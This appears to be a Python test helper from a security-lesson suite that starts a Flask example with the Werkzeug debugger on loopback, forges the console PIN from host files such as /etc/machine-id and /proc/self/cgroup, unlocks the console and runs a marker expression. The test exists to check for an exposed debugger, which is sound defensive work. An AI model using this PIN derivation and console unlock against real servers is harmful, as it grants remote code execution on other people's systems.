"""The Werkzeug debugger attack (B201, for tests/unit/test_lesson_attacks.py): the example runs as
a script in a child process, so `app.run` starts the development server with its reloader on a
loopback port; the attacker computes the console PIN from host facts, unlocks the console and runs
an expression there. The attack returns whether the expression ran."""

from __future__ import annotations

import contextlib
import getpass
import hashlib
import http.client
import importlib.util
import os
import re
import signal
import socket
import subprocess
import sys
import time
import urllib.parse
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest
from tests.unit.lesson_web import MARKER

# Variables that would change what `app.run` does, whatever the example says.
_DEBUG_ENVIRONMENT = ("FLASK_DEBUG", "WERKZEUG_DEBUG_PIN", "WERKZEUG_RUN_MAIN", "WERKZEUG_SERVER_FD")


def _machine_id() -> bytes:
    """What the story's file-read bug gives: /etc/machine-id (or the boot id) and the first line
    of /proc/self/cgroup, which a process in the same container shares with the server."""
    value = b""
    for name in ("/etc/machine-id", "/proc/sys/kernel/random/boot_id"):
        with contextlib.suppress(OSError), open(name, "rb") as file:
            value = file.readline().strip()
        if value:
            break
    with contextlib.suppress(OSError), open("/proc/self/cgroup", "rb") as file:
        value += file.readline().strip()
    return value


def console_pin() -> str:
    """The PIN as published write-ups compute it for Werkzeug 2 and 3: a SHA-1 over the user
    name, the app's class and module file, the MAC address (the story reads it from
    /sys/class/net; `uuid.getnode` is the value Werkzeug hashes) and the machine id."""
    flask_file = importlib.util.find_spec("flask.app").origin  # a traceback page shows this path
    digest = hashlib.sha1()  # noqa: S324 - Werkzeug's own derivation, reproduced
    for bit in (getpass.getuser(), "flask.app", "Flask", flask_file, str(uuid.getnode()), _machine_id()):
        if bit:
            digest.update(bit.encode() if isinstance(bit, str) else bit)
    digest.update(b"cookiesalt")
    digest.update(b"pinsalt")
    return f"{int(digest.hexdigest(), 16):09d}"[:9]


def _get(port: int, path: str, cookie: str = "") -> tuple[int, str, str]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        conn.request("GET", path, headers={"Cookie": cookie} if cookie else {})
        answer = conn.getresponse()
        cookies = "; ".join(value.split(";")[0] for value in answer.headers.get_all("Set-Cookie") or ())
        return answer.status, cookies, answer.read().decode()
    finally:
        conn.close()


def _wait_for_index(port: int, child: subprocess.Popen) -> None:
    deadline = time.monotonic() + 20
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError):
            assert _get(port, "/")[2] == "ok"  # the app serves its page, debug or not
            return
        assert child.poll() is None, child.communicate()[1]
        time.sleep(0.1)
    raise AssertionError("the example's development server did not start")


def debugger_console(code: dict, tmp: Path, port: int) -> bool:
    pytest.importorskip("flask")
    script = tmp / "app.py"
    script.write_text(code["__source__"], encoding="utf-8")
    env = {name: value for name, value in os.environ.items() if name not in _DEBUG_ENVIRONMENT}
    # Its own session: the reloader starts a second process, and both are ended together.
    child = subprocess.Popen([sys.executable, str(script)], cwd=tmp, env=env, text=True,
                             stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, start_new_session=True)
    try:
        _wait_for_index(port, child)
        status, _, page = _get(port, "/console")
        secret = re.search(r'SECRET = "([^"]+)"', page)
        if status != 200 or secret is None:
            return False
        query = f"/console?__debugger__=yes&s={secret[1]}"
        _, cookie, unlocked = _get(port, f"{query}&cmd=pinauth&pin={console_pin()}")
        assert '"auth": true' in unlocked, unlocked
        expression = urllib.parse.quote(f"{MARKER[:7]!r} + {MARKER[7:]!r}")  # the answer alone joins them
        return f"&#39;{MARKER}&#39;" in _get(port, f"{query}&cmd={expression}&frm=0", cookie)[2]
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(child.pid, signal.SIGTERM)
        child.communicate(timeout=10)


@contextlib.contextmanager
def free_port(tmp: Path) -> Iterator[int]:
    """A loopback port nobody listens on, for the example's `app.run` (moved there by the
    sandbox)."""
    if os.name != "posix":
        pytest.skip("POSIX process groups")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    yield port


debugger_console.around = free_port
debugger_console.loads_in_a_child = True
